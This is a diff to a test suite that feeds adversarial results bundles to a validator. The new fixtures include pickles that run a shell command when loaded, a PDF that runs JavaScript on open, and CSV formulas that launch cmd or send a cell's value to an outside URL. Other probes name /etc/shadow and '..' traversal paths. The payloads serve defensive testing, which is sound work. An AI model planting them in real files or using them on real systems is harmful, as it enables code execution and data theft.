@@ -256,6 +256,30 @@ def pickle_member(base, tmp):
     return with_manifest(folder, tmp / "p.tar.gz")
 
 
+def pickle_upper_case(base, tmp):
+    """A pickle whose suffix is in capitals: a pickle all the same."""
+    folder = copy_base(base, tmp)
+    (folder / ITEM / "parts").mkdir()
+    (folder / ITEM / "parts/a.PKL").write_bytes(b"cos\nsystem\n(S'touch owned'\ntR.")
+    return with_manifest(folder, tmp / "p.tar.gz")
+
+
+def pickle_upper_case_folder(base, tmp):
+    folder = copy_base(base, tmp)
+    (folder / ITEM / "x.Pickle").write_bytes(b"cos\nsystem\n(S'touch owned'\ntR.")
+    (folder / MANIFEST).unlink()
+    write_manifest(folder)
+    return folder
+
+
+def empty_manifest_only(base, tmp):
+    """A folder holding nothing but an empty MANIFEST.sha256: intact, and nothing to judge."""
+    folder = tmp / "work" / TOP
+    folder.mkdir(parents=True)
+    (folder / MANIFEST).write_text("")
+    return pack(folder, tmp / "p.tar.gz")
+
+
 def truncated(base, tmp):
     folder = copy_base(base, tmp)
     out = pack(folder, tmp / "whole.tar.gz")
@@ -332,10 +356,48 @@ def script_in_html(base, tmp):
     return with_manifest(folder, tmp / "p.tar.gz")
 
 
+PDF_SCRIPT = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
+              b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
+CSV_FORMULA = '=HYPERLINK("http://example.org/?"&A2,"click")\n=cmd|\' /C calc\'!A0\n'
+
+
+def active_figure_files(base, tmp):
+    """A PDF that runs a script when opened and a CSV of spreadsheet formulas beside the item's PNG figure."""
+    folder = copy_base(base, tmp)
+    (folder / ITEM / "fig1.pdf").write_bytes(PDF_SCRIPT)
+    (folder / ITEM / "fig1.csv").write_text(CSV_FORMULA)
+    return with_manifest(folder, tmp / "p.tar.gz")
+
+
 def _metrics_probe(text: str):
     def build(base, tmp):
         folder = copy_base(base, tmp)
         _edit_json(folder, f"{ITEM}/metrics.json", text)
+        return with_manifest(folder, tmp / "p.tar.gz")
+    return build
+
+
+def _metrics_edit(**changes):
+    """fig1's intact metrics with `changes` applied (a key set to None is removed)."""
+    def build(base, tmp):
+        folder = copy_base(base, tmp)
+        metrics = json.loads((folder / ITEM / "metrics.json").read_text())
+        metrics.update(changes)
+        _edit_json(folder, f"{ITEM}/metrics.json", json.dumps(metrics))
+        return with_manifest(folder, tmp / "p.tar.gz")
+    return build
+
+
+SIDECAR = "resources/processed/adult_huang2019.json"
+
+
+def _sidecar_edit(**changes):
+    """adult_huang2019's intact sidecar with `changes` applied."""
+    def build(base, tmp):
+        folder = copy_base(base, tmp)
+        side = json.loads((folder / SIDECAR).read_text())
+        side.update(changes)
+        _edit_json(folder, SIDECAR, json.dumps(side))
         return with_manifest(folder, tmp / "p.tar.gz")
     return build
 
@@ -350,6 +412,26 @@ def deep_notebook(base, tmp):
     folder = copy_base(base, tmp)
     _edit_json(folder, f"{ITEM}/fig1.ipynb", '{"metadata": ' + deep(100_000) + "}")
     return with_manifest(folder, tmp / "p.tar.gz")
+
+
+def empty_lists_notebook(base, tmp):
+    """8 MiB of empty lists beside an intact metadata: the notebook is read for its metadata alone."""
+    folder = copy_base(base, tmp)
+    nb = json.loads((folder / ITEM / "fig1.ipynb").read_text())
+    nb["x"] = [[] for _ in range(8 * 2**20 // 3)]
+    _edit_json(folder, f"{ITEM}/fig1.ipynb", json.dumps(nb, separators=(",", ":")))
+    return with_manifest(folder, tmp / "p.tar.gz")
+
+
+def notebook_datasets(datasets):
+    """fig1's executed notebook recording `datasets` as given."""
+    def build(base, tmp):
+        folder = copy_base(base, tmp)
+        nb = json.loads((folder / ITEM / "fig1.ipynb").read_text())
+        nb["metadata"]["papermill"]["parameters"]["params"]["datasets"] = datasets
+        _edit_json(folder, f"{ITEM}/fig1.ipynb", json.dumps(nb))
+        return with_manifest(folder, tmp / "p.tar.gz")
+    return build
 
 
 def _provenance_probe(text: str):
@@ -398,6 +480,10 @@ PROBES = [
     ("truncated archive", "malformed", truncated, "p.tar.gz"),
     ("not an archive", "malformed", not_an_archive, "cannot unpack p.tar.gz"),
     ("pickle in the bundle", "pickles", pickle_member, "is a pickle"),
+    ("pickle suffix in capitals (.PKL)", "pickles", pickle_upper_case, "parts/a.PKL' is a pickle"),
+    ("pickle suffix in capitals in a folder (.Pickle)", "pickles", pickle_upper_case_folder,
+     "pickle: results/huang2019_dpadmm/fig1/x.Pickle"),
+    ("only an empty manifest", "manifest", empty_manifest_only, "lists no file: not a results bundle"),
     ("manifest names /etc/shadow", "manifest", manifest_absolute, "'/etc/shadow': an absolute path"),
     ("manifest names ../../..", "manifest", manifest_dotdot, "'..' (a path outside the bundle)"),
     ("unpacked folder with a symlink", "manifest", folder_with_symlink, "is a link"),
@@ -406,6 +492,7 @@ PROBES = [
     ("40 MiB-class giant PNG (9 MiB)", "content", giant_png, None),
     ("PNG of 100,000 x 100,000 pixels", "content", png_dimensions, None),
     ("script in an item page", "content", script_in_html, None),
+    ("PDF with a script and CSV with formulas", "content", active_figure_files, None),
     ("1e400 in wall_time_s", "numbers", _metrics_probe(METRICS_1E400), None),
     ("NaN in wall_time_s", "numbers", _metrics_probe(METRICS_NAN), None),
     ("integer 10^400 as a metric", "numbers", _metrics_probe(METRICS_BIGINT), None),
@@ -413,8 +500,24 @@ PROBES = [
     ("metrics.json with 300,001 keys", "bombs", _metrics_probe(METRICS_MANY_KEYS), None),
     ("metrics.json of 2.1 million numbers", "bombs", _metrics_probe(METRICS_WIDE), None),
     ("metrics.json of 17 MiB", "bombs", _metrics_probe(METRICS_LARGE), None),
+    # an inconclusive check whose SE overflows when squared (finite), or is infinite: no repeats count, no crash
+    ("per-repeat values of +-1e155", "numbers",
+     _metrics_edit(repeats={"err.dpadmm": [1e155, -1e155], "err.dpsgd": [0.2, 0.21]}), None),
+    ("per-repeat values of +-1e308", "numbers",
+     _metrics_edit(repeats={"err.dpadmm": [1e308, -1e308, 1e308], "err.dpsgd": [1e308, -1e308, 1e308]}), None),
+    ("repeats a list", "types", _metrics_edit(repeats=[1, 2]), None),
+    ("repeats an integer", "types", _metrics_edit(repeats=5), None),
+    ("repeats a string", "types", _metrics_edit(repeats="ab"), None),
+    ("repeats of strings and mappings", "types", _metrics_edit(repeats={"err.dpadmm": "ab", "err.dpsgd": {"a": 1}}),
+     None),
     ("sidecar nested 100,000 deep", "nesting", deep_sidecar, None),
+    ("sidecar options a list", "types", _sidecar_edit(options=[1, 2]), None),
+    ("sidecar sources a list", "types", _sidecar_edit(sources=["x"]), None),
+    ("sidecar sources of strings", "types", _sidecar_edit(sources={"x": "abc", "y": {"sha256": 5}}), None),
     ("notebook nested 100,000 deep", "nesting", deep_notebook, None),
+    ("notebook of 8 MiB of empty lists", "bombs", empty_lists_notebook, None),
+    ("notebook datasets a list of lists", "types", notebook_datasets([["adult_huang2019"]]), None),
+    ("notebook datasets a string", "types", notebook_datasets("adult_huang2019"), None),
     ("report claims.json nested 100,000 deep", "nesting", deep_report_claims,
      "results/report/claims.json: nested deeper than 64 levels"),
     ("provenance.json nested 100,000 deep", "nesting", _provenance_probe(deep(100_000)), "provenance.json"),
